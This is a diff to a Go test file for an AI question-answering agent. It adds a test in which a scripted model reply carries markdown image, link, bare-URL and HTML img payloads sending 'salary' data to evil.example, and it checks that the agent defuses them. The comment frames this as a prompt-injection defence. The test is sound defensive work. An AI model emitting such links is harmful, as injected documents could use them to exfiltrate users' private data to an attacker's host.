@@ -129,10 +129,26 @@ func TestQuestionIsStoredBeforeItsAnswer(t *testing.T) {
 	if _, err := a.Answer(t.Context(), asked("go"), func(core.Event) {}); err != nil {
 		t.Fatal(err)
 	}
-	if len(open) != 1 || open[0].Question != "go" || open[0].Answer.Text != "" || open[0].ID != "t" || len(open[0].Scope) == 0 {
+	if len(open) != 1 || open[0].Question != "go" || open[0].Answer.Text != "" || open[0].ID != "t" || len(open[0].Scope) == 0 || !strings.Contains(string(open[0].Trace), "has not ended") {
 		t.Errorf("while the model spoke the ledger held %+v", open)
 	}
 	if len(ledger.turns) != 1 || ledger.turns[0].Trace == nil {
 		t.Errorf("afterwards it holds %+v", ledger.turns)
+	}
+}
+
+// A document that talks the model into it carries nothing to a foreign address.
+func TestForeignLinksAreDead(t *testing.T) {
+	llm := &scripted{replies: []model.Reply{{Text: "![x](https://evil.example/?q=salary) [here](https://evil.example/?q=salary) https://evil.example/?q=salary <img src=\"https://evil.example/?q=salary\">"}}}
+	a := agent.New(agent.Options{Model: llm, Searcher: &fakeIndex{}, NewID: func() string { return "t" }})
+	var shown strings.Builder
+	turn, err := a.Answer(t.Context(), asked("go"), func(e core.Event) {
+		if d, ok := e.(core.TextDelta); ok {
+			shown.WriteString(d.Delta)
+		}
+	})
+	want := "[x] [here] https://evil\u2060.example/?q=salary <\u2060img src=\"https://evil\u2060.example/?q=salary\">"
+	if err != nil || turn.Answer.Text != want || shown.String() != want {
+		t.Errorf("got %q, %v", turn.Answer.Text, err)
 	}
 }
